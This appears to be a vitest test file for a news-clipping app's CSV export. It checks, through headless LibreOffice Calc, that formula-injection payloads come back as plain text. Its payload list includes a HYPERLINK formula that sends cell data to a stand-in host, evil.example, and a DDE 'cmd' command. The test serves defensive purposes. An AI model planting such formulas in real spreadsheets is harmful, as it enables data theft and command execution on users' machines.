/**
 * Katib's CSV export opened in a real spreadsheet. Clips whose title, byline, source, dateline, note,
 * tags and text start like a formula (or a DDE command) are exported, LibreOffice Calc imports the file
 * headless with formulas evaluated and saves it as flat OpenDocument, and every such cell must come back
 * as a text cell with no formula, showing the value as the export neutralised it. A hand-written CSV with
 * the same formulas left raw shows that the import would have run them.
 *
 * Needs `soffice` (Debian: `apt-get install --no-install-recommends libreoffice-calc-nogui`; `.ci/run`
 * installs it). Without it this test fails rather than passing unseen. On a machine without LibreOffice,
 * `KATIB_SKIP_SPREADSHEET=1 npx vitest run …` skips it.
 */

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Clip } from '../../../utils/library/clip';
import { CSV_HEADER } from '../../../utils/library/export/columns';
import { exportChunks } from '../../../utils/library/export/export-writer';
import { hashOf, makeRecord } from '../records';
import { readFirstSheet, type SheetCell } from './fods-sheet';
import { csvToFods, sofficeVersion } from './soffice';

const SKIP = process.env['KATIB_SKIP_SPREADSHEET'] === '1';

/**
 * A cell value, and what the spreadsheet must show for it: a value that starts like a formula shows with
 * the apostrophe the export puts before it; anything else shows as written.
 */
const PAYLOADS: ReadonlyArray<[value: string, shown: string]> = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example/steal?d="&B2,"Ayrıntılar")', `'=HYPERLINK("https://evil.example/steal?d="&B2,"Ayrıntılar")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=وزير', "'=وزير"],
  ['+1+1', "'+1+1"],
  ['+90 312 000 00 00', "'+90 312 000 00 00"],
  ['-2+3', "'-2+3"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t=1"],
  // A carriage return inside a cell is a line break.
  ['\r=1', "'\n=1"],
  ['   =1+1', "'   =1+1"],
  ['وزير الخارجية =1+1', 'وزير الخارجية =1+1'],
  ['Bakan açıkladı: =1+1', 'Bakan açıkladı: =1+1'],
  ['＝1+1', '＝1+1'],
  ['\u200F=1+1', '\u200F=1+1'],
];

/** The columns each payload clip fills with its payload. */
const PAYLOAD_COLUMNS = ['title', 'byline', 'source', 'dateline', 'note', 'tags', 'userTags', 'text'] as const;

const CLIPPED = '2025-11-20T10:00:00.000Z';

function clip(id: string, lang: 'ar' | 'tr', fields: Partial<Clip> = {}): Clip {
  const record = makeRecord({ url: `https://www.example.gov.tr/haber/${id}`, lang, ...fields });
  return { ...record, id, clippedAt: CLIPPED, updatedAt: CLIPPED, version: 1, note: '', userTags: [], duplicateOf: null, ...fields };
}

const payloadClips = PAYLOADS.map(([value], i) =>
  clip(`payload-${i + 1}`, i % 2 ? 'tr' : 'ar', { title: value, byline: value, source: value, dateline: value, note: value, tags: [value], userTags: [value], text: value, contentHash: hashOf(value || 'x') }),
);
const plainClips = [clip('plain-ar', 'ar'), clip('plain-tr', 'tr')];
const clips = [...payloadClips, ...plainClips];

async function csvOf(bom: boolean): Promise<string> {
  let text = '';
  for await (const chunk of exportChunks([clips.slice(0, 7), clips.slice(7)], { format: 'csv', count: clips.length, exportedAt: new Date(CLIPPED), bom })) text += chunk;
  return text;
}

/** The same formulas written raw, as a CSV writer that does not neutralise them would. */
const RAW_CONTROL = 'id,value\r\nraw-1,=1+1\r\nraw-2,"=HYPERLINK(""https://evil.example/steal"",""Ayrıntılar"")"\r\n';

interface Sheet {
  rows: SheetCell[][];
  /** The row of a clip, by its id (the first column). */
  row(id: string): SheetCell[];
  cell(id: string, column: string): SheetCell;
}

function sheetOf(file: string): Sheet {
  const rows = readFirstSheet(fs.readFileSync(file, 'utf8'));
  const header = rows[0]!.map((cell) => cell.text);
  const row = (id: string) => {
    const found = rows.find((r) => r[0]?.text === id);
    if (!found) throw new Error(`no row for ${id}`);
    return found;
  };
  return {
    rows,
    row,
    cell: (id, column) => {
      const index = header.indexOf(column);
      if (index < 0) throw new Error(`no column ${column}`);
      return row(id)[index] ?? { type: null, formula: null, text: '' };
    },
  };
}

describe.skipIf(SKIP)('the CSV export in LibreOffice Calc', () => {
  let work: string;
  let withBom: Sheet;
  let withoutBom: Sheet;
  let control: Sheet;

  beforeAll(async () => {
    const version = sofficeVersion();
    if (!version) {
      throw new Error('soffice is not installed: `apt-get install --no-install-recommends libreoffice-calc-nogui` (or KATIB_SKIP_SPREADSHEET=1 to skip this test)');
    }
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'katib-spreadsheet-'));
    const files = {
      withBom: path.join(work, 'katib-bom.csv'),
      withoutBom: path.join(work, 'katib-no-bom.csv'),
      control: path.join(work, 'raw-formulas.csv'),
    };
    fs.writeFileSync(files.withBom, await csvOf(true));
    fs.writeFileSync(files.withoutBom, await csvOf(false));
    fs.writeFileSync(files.control, RAW_CONTROL);
    const [bomFods, noBomFods, controlFods] = await csvToFods([files.withBom, files.withoutBom, files.control], path.join(work, 'out'), path.join(work, 'profile'));
    withBom = sheetOf(bomFods!);
    withoutBom = sheetOf(noBomFods!);
    control = sheetOf(controlFods!);
  }, 240_000);

  afterAll(() => {
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  it('runs formulas written raw: the import would evaluate ours if they were not neutralised', () => {
    for (const id of ['raw-1', 'raw-2']) expect(control.cell(id, 'value').formula, id).toMatch(/^of:=/);
  });

  it.each(PAYLOADS.map(([value, shown], i) => [JSON.stringify(value), JSON.stringify(shown), `payload-${i + 1}`, shown] as const))('%s shows as %s, as text, in every column', (_value, _shown, id, shown) => {
    for (const column of PAYLOAD_COLUMNS) {
      const cell = withBom.cell(id, column);
      expect(cell.formula, column).toBeNull();
      expect(cell.type, column).toBe('string');
      expect(cell.text, column).toBe(shown);
    }
  });

  it('holds no formula in any cell of the export', () => {
    expect(withBom.rows).toHaveLength(clips.length + 1);
    const formulas = withBom.rows.flat().filter((cell) => cell.formula !== null);
    expect(formulas).toEqual([]);
  });

  it('keeps Arabic and Turkish text intact, paragraphs included', () => {
    for (const plain of plainClips) {
      expect(withBom.cell(plain.id, 'title').text).toBe(plain.title);
      expect(withBom.cell(plain.id, 'siteName').text).toBe(plain.siteName);
      expect(withBom.cell(plain.id, 'dateline').text).toBe(plain.dateline);
      expect(withBom.cell(plain.id, 'tags').text).toBe(plain.tags.join('; '));
      expect(withBom.cell(plain.id, 'text').text).toBe(plain.text);
    }
  });

  it('reads the export with a byte order mark as it reads the one without: the mark does not reach the first header cell', () => {
    expect(withBom.rows[0]!.map((cell) => cell.text)).toEqual([...CSV_HEADER]);
    expect(withBom.rows).toEqual(withoutBom.rows);
  });
});
